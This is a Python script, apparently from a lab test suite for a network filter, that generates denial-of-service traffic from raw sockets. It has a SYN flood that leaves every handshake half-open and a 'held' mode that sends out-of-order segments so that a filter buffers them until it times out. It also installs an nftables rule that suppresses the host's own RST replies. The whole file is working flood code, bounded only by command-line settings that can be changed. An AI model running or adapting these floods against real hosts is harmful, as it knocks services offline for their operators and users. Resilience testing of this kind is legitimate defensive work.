#!/usr/bin/python3
"""Issue 9, denial of service: bounded floods from one source, from raw sockets.

  --mode syn    --count N SYNs (the options Linux sends) to --dst:--port from
                source ports in --ports, at most --rate per second; the server's
                SYN-ACKs are never answered (the flows stay SYN-only).
  --mode held   rounds of --flows connections for --seconds: SYN, the server's
                SYN-ACK read, then --segments ACK|PSH segments of 16 bytes each at
                stream offsets 1000, 1016, ... (the first payload never starts, so
                a filter holds them all until its hold timeout).

The kernel of this namespace would reset the server's SYN-ACKs (no socket
owns these ports): an nft table here drops our RSTs while we run (source
ports in --ports from --src only). Source address --src (an address of this namespace).
Prints JSON {"sent": N, "synacks": N, "elapsed": s}. Only documentation
addresses are used by the lab; this sends to --dst only, bounded in count and time.
"""
import argparse
import json
import random
import select
import socket
import struct
import subprocess
import sys
import os
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                                "evasion"))
import rawtcp  # noqa: E402

SYN, ACK, PSH = rawtcp.SYN, rawtcp.ACK, rawtcp.PSH
SYN_OPTS = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02\x01\x03\x03\x07"


class Flood:
    def __init__(self, a):
        self.a = a
        self.fam = socket.AF_INET6 if ":" in a.dst else socket.AF_INET
        self.tx = socket.socket(self.fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.tx.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.rx = socket.socket(self.fam, socket.SOCK_RAW, socket.IPPROTO_TCP)
        self.rx.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.lo, self.hi = (int(x) for x in a.ports.split("-"))
        self.table = "flood_%d" % os.getpid()
        self.sent = self.synacks = 0
        self.ident = 1
        self.next_port = self.lo
        self.t0 = time.monotonic()

    def rst_rule(self, add):
        if add:
            rules = ("table inet %s {\n chain out {\n  type filter hook output priority -300;"
                     " policy accept;\n  %s saddr %s tcp sport %d-%d tcp flags & rst == rst drop\n"
                     " }\n}\n" % (self.table, "ip6" if self.fam == socket.AF_INET6 else "ip",
                                  self.a.src, self.lo, self.hi))
            subprocess.run(["nft", "-f", "-"], input=rules, text=True, check=True, timeout=5)
        else:
            subprocess.run(["nft", "delete", "table", "inet", self.table], check=False,
                           timeout=5, capture_output=True)

    def port(self):
        p = self.next_port
        self.next_port = p + 1 if p < self.hi else self.lo
        return p

    def pace(self):
        self.sent += 1
        if self.a.rate:
            ahead = self.sent / self.a.rate - (time.monotonic() - self.t0)
            if ahead > 0.005:
                time.sleep(ahead)

    def send(self, sport, seq, ack, flags, data=b"", opts=b""):
        seg = rawtcp.tcp_segment(self.fam, self.a.src, self.a.dst, sport, self.a.port, seq, ack,
                                 flags, data, opts)
        self.ident = (self.ident + 1) & 0xFFFF or 1
        if self.fam == socket.AF_INET:
            pkt = rawtcp.ipv4(self.a.src, self.a.dst, 6, seg, self.ident)
        else:
            pkt = rawtcp.ipv6(self.a.src, self.a.dst, 6, seg)
        try:
            self.tx.sendto(pkt, (self.a.dst, 0))
        except (PermissionError, BlockingIOError, OSError):
            pass  # host mode: the OUTPUT hook dropped it; or the send buffer is full
        self.pace()

    def synacks_for(self, want, timeout):
        """Read SYN-ACKs for the ports in want (dict port -> isn): port -> server isn."""
        got = {}
        end = time.monotonic() + timeout
        while len(got) < len(want) and time.monotonic() < end:
            r, _, _ = select.select([self.rx], [], [], max(0, end - time.monotonic()))
            if not r:
                break
            pkt, addr = self.rx.recvfrom(65535)
            if self.fam == socket.AF_INET:
                if len(pkt) < 40 or pkt[9] != 6:
                    continue
                seg = pkt[(pkt[0] & 15) * 4:]
            else:
                seg = pkt
            if len(seg) < 20:
                continue
            sp, dp, seq, ack, _, flags = struct.unpack("!HHIIBB", seg[:14])
            if sp == self.a.port and dp in want and flags & 0x12 == 0x12 \
                    and ack == (want[dp] + 1) & 0xFFFFFFFF:
                got[dp] = seq
        self.synacks += len(got)
        return got

    def syn_flood(self):
        """Every SYN a new flow: source ports first, then the next of --dports."""
        dports = [int(x) for x in self.a.dports.split(",")]
        for i in range(self.a.count):
            if time.monotonic() - self.t0 > self.a.seconds:
                break
            self.a.port = dports[(i // (self.hi - self.lo + 1)) % len(dports)]
            self.send(self.port(), random.randrange(1 << 32), 0, SYN, opts=SYN_OPTS)

    def held_flood(self):
        while time.monotonic() - self.t0 < self.a.seconds:
            isns = {}
            for _ in range(self.a.flows):
                p = self.port()
                isns[p] = random.randrange(1 << 32)
                self.send(p, isns[p], 0, SYN, opts=SYN_OPTS)
            srv = self.synacks_for(isns, 0.3)
            for k in range(self.a.segments):
                for p, s in srv.items():
                    off = 1000 + 16 * k
                    self.send(p, isns[p] + 1 + off, s + 1, ACK | PSH, bytes([65 + k % 26]) * 16)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=443)
    ap.add_argument("--dports", default="443", help="syn: destination ports, in turn")
    ap.add_argument("--mode", choices=["syn", "held"], required=True)
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--flows", type=int, default=400)
    ap.add_argument("--segments", type=int, default=24)
    ap.add_argument("--ports", default="20000-29999")
    ap.add_argument("--rate", type=float, default=10000)
    ap.add_argument("--seconds", type=float, default=10)
    a = ap.parse_args()
    f = Flood(a)
    f.rst_rule(True)
    try:
        f.syn_flood() if a.mode == "syn" else f.held_flood()
    finally:
        f.rst_rule(False)
    print(json.dumps({"sent": f.sent, "synacks": f.synacks,
                      "elapsed": time.monotonic() - f.t0}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
